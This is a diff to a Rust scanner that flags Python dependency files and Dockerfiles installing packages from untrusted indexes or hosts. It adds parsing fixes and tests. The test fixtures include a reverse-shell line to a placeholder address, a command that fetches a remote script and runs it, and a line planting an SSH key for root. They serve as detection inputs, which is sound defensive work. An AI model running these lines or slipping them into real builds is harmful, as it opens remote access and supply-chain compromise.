@@ -191,6 +191,12 @@ pub(crate) fn inspect(scan: &mut Scan<'_>, source: &Source, text: &str) -> Scann
         at += line.len();
         scan.steps(1)?;
         let bare = line.trim_end_matches(['\n', '\r']);
+        if bare.trim_start().starts_with('#') {
+            // A comment is not carried on, and ends a line that is.
+            let logical = std::mem::take(&mut whole);
+            judge(scan, source, start as u64, &logical);
+            continue;
+        }
         if let Some(more) = bare.strip_suffix('\\') {
             whole.push_str(more);
             continue;
@@ -209,6 +215,20 @@ pub(crate) fn in_tree(scan: &mut Scan<'_>, source: &Source, tree: &Tree) {
         if ["source", "sources", "index"].iter().any(|end| section == end || section.ends_with(&format!(".{end}"))) {
             for id in tree.get_all(*table, "url") {
                 self::url(scan, source, tree.at(id), tree.text(id).unwrap_or_default(), "The package index");
+            }
+        }
+    }
+    for (section, table) in tree.entries(tree.root()) {
+        // `name = { git = "…" }` in what a project needs.
+        let section = section.trim_matches('[').to_ascii_lowercase();
+        let last = section.rsplit('.').next().unwrap_or_default();
+        let needs = last.ends_with("dependencies")
+            || matches!(last, "packages" | "dev-packages")
+            || section.ends_with("uv.sources");
+        for (_, value) in tree.entries(*table).iter().filter(|_| needs) {
+            let texts = tree.text(*value).into_iter().chain(tree.items(*value).iter().filter_map(|id| tree.text(*id)));
+            for text in texts.filter(|text| text.contains("://")) {
+                judge(scan, source, tree.at(*value), text);
             }
         }
     }
@@ -272,7 +292,8 @@ pub(crate) fn judge(scan: &mut Scan<'_>, source: &Source, at: u64, line: &str) {
                     url(scan, source, at, &given, "The place to find packages");
                 }
             }
-            "--trusted-host" => {
+            // The installer takes any beginning of an option's name.
+            option if option.starts_with("--tr") => {
                 let given = value();
                 host(scan, source, at, &given, "The trusted host");
             }
@@ -288,8 +309,11 @@ pub(crate) fn judge(scan: &mut Scan<'_>, source: &Source, at: u64, line: &str) {
                 }
             }
             word if word.contains("://") => {
-                let word = word.rsplit_once("@git+").map_or(word, |_| word);
-                let from = word.find("git+").or_else(|| word.find("http")).or_else(|| word.find("file:")).unwrap_or(0);
+                // `name@git+https://…`, `url=https://…`: the address begins where its scheme does.
+                let scheme = word.find("://").and_then(|end| word.get(..end)).unwrap_or_default();
+                let from = scheme
+                    .rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-'))
+                    .map_or(0, |before| before + 1);
                 url(scan, source, at, word.get(from..).unwrap_or(word).trim_matches(['"', '\'']), "A package");
             }
             word if packed(word) => {
@@ -312,13 +336,14 @@ fn packed(word: &str) -> bool {
 
 /// Where something comes from, and whether that is ordinary.
 fn url(scan: &mut Scan<'_>, source: &Source, at: u64, url: &str, what: &str) {
-    let bare = url.trim_start_matches("git+").trim_start_matches("hg+").trim_start_matches("svn+");
-    let Some((scheme, rest)) = bare.split_once("://") else { return };
+    let Some((scheme, rest)) = url.split_once("://") else { return };
+    let scheme = scheme.to_ascii_lowercase();
+    let scheme = ["git+", "hg+", "svn+", "bzr+"].iter().find_map(|by| scheme.strip_prefix(by)).unwrap_or(&scheme);
     let rest = rest.split(['?', '#']).next().unwrap_or(rest);
     let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
     let host_name = authority.rsplit('@').next().unwrap_or(authority).split(':').next().unwrap_or_default();
     let host_name = host_name.to_ascii_lowercase();
-    if !matches!(scheme, "https" | "http" | "ssh" | "git" | "file") {
+    if !matches!(scheme, "https" | "http" | "ssh" | "git" | "file" | "ftp" | "sftp" | "svn" | "static-http" | "lp") {
         return;
     }
     let owner = path.split('/').next().unwrap_or_default().to_ascii_lowercase();
@@ -339,8 +364,11 @@ fn url(scan: &mut Scan<'_>, source: &Source, at: u64, url: &str, what: &str) {
         }
         host => HOSTS.contains(&host),
     };
-    // `${VARIABLE}` is filled in by whoever installs.
-    if authority.contains('$') || authority.contains('{') {
+    // `${VARIABLE}` is filled in by whoever installs. Where it is only a part of the name, the rest is not.
+    let asked =
+        host_name.strip_prefix("${").or_else(|| host_name.strip_prefix("{{")).or_else(|| host_name.strip_prefix('{'));
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | ' ' | '.');
+    if asked.is_some_and(|name| name.ends_with('}') && name.trim_end_matches('}').chars().all(plain)) {
         return;
     }
     if !known || scheme == "file" {
@@ -358,5 +386,88 @@ fn host(scan: &mut Scan<'_>, source: &Source, at: u64, host: &str, what: &str) {
     if !name.is_empty() && !HOSTS.contains(&name) {
         let message = format!("{what} is `{host}`: packages from there are installed without checking who answers.");
         scan.found(&rules::FOREIGN_INDEX, source, at, message);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use bytes::Bytes;
+
+    use crate::{Limits, Outcome, Verdict, scan};
+
+    fn verdict(name: &str, text: &str) -> Option<Verdict> {
+        match scan(name, Arc::new(Bytes::from(text.to_owned())), &Limits::default(), None) {
+            Outcome::Judged(report) => Some(report.verdict),
+            Outcome::Needs(_) => None,
+        }
+    }
+
+    #[test]
+    fn a_foreign_source_is_told_however_it_is_written() {
+        for text in [
+            "--index-url=HTTPS://example.net/simple\nx",
+            "-i HTTPS://example.net/simple",
+            "-iHttps://example.net/simple",
+            "--extra-index-url https://{user}:{key}@example.net/simple",
+            "--extra-index-url https://${USER}:${KEY}@example.net/simple",
+            "--index-url https://example.net${X}/simple",
+            "--index-url https://${X}.example.net/simple",
+            "--ind https://example.net/simple",
+            "--trusted example.net",
+            "x @ GIT+SSH://git@example.net/a/b",
+            "git+ssh://git@example.net/a/b.git#egg=b",
+            "-e git+git://example.net/a/b",
+            "x@https://example.net/x.whl",
+            "-r https://example.net/more.txt",
+            "--requirement=https://example.net/more.txt",
+            "numpy \\\n  --index-url \\\n https://example.net/simple",
+            "# a comment \\\n--index-url https://example.net/simple",
+            "numpy \\\n# a comment\n--index-url https://example.net/simple",
+            "ftp://example.net/x.tar.gz",
+        ] {
+            assert_eq!(verdict("requirements.txt", text), Some(Verdict::Suspicious), "{text}");
+        }
+        for (name, text) in [
+            ("Pipfile", "[packages]\nx = {git = \"https://example.net/x.git\"}\n"),
+            ("Pipfile", "[[source]]\nurl = \"https://example.net/simple\"\n"),
+            ("pyproject.toml", "[tool.poetry.dependencies]\nx = { url = \"https://example.net/x.whl\" }\n"),
+            ("pyproject.toml", "[tool.uv.sources]\nx = { git = \"https://example.net/x\" }\n"),
+            ("pyproject.toml", "[project]\ndependencies = [\"x @ https://example.net/x.whl\"]\n"),
+            ("setup.cfg", "[options]\ninstall_requires =\n    x @ git+https://example.net/x\n"),
+            ("environment.yml", "dependencies:\n  - pip:\n      - --extra-index-url https://example.net/simple\n"),
+            ("Dockerfile", "FROM x\nRUN --mount=type=cache,target=/a pip install -i https://example.net/simple y\n"),
+            ("Dockerfile", "FROM x\nRUN bash <(wget -qO- https://example.net/x)\n"),
+        ] {
+            assert_eq!(verdict(name, text), Some(Verdict::Suspicious), "{name} {text}");
+        }
+        assert_eq!(verdict("Dockerfile", "RUN bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n"), Some(Verdict::Malicious));
+    }
+
+    #[test]
+    fn ordinary_sources_are_silent() {
+        for (name, text) in [
+            (
+                "requirements.txt",
+                "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch>=2 # why \\\nnumpy\n",
+            ),
+            ("requirements.txt", "--index-url https://${USER}:${KEY}@pypi.org/simple\n-i https://${HOST}/simple\n"),
+            ("requirements.txt", "transformers @ git+https://github.com/huggingface/transformers@v4.40\n"),
+            (
+                "pyproject.toml",
+                "[project.urls]\nhome = \"https://example.net\"\n[tool.poetry.dependencies]\npython = \"^3.11\"\n",
+            ),
+            (
+                "Dockerfile",
+                "RUN curl -LsSf https://astral.sh/uv/install.sh | sh\nRUN apt-get install -y openssh-server && mkdir -p /root/.ssh && echo \"$PUBLIC_KEY\" >> /root/.ssh/authorized_keys\n",
+            ),
+            (
+                "Dockerfile",
+                "COPY key.pub /root/.ssh/authorized_keys\nRUN chmod 600 /root/.ssh/authorized_keys && ssh-keygen -A\n",
+            ),
+        ] {
+            assert_eq!(verdict(name, text), Some(Verdict::Clean), "{name} {text}");
+        }
     }
 }
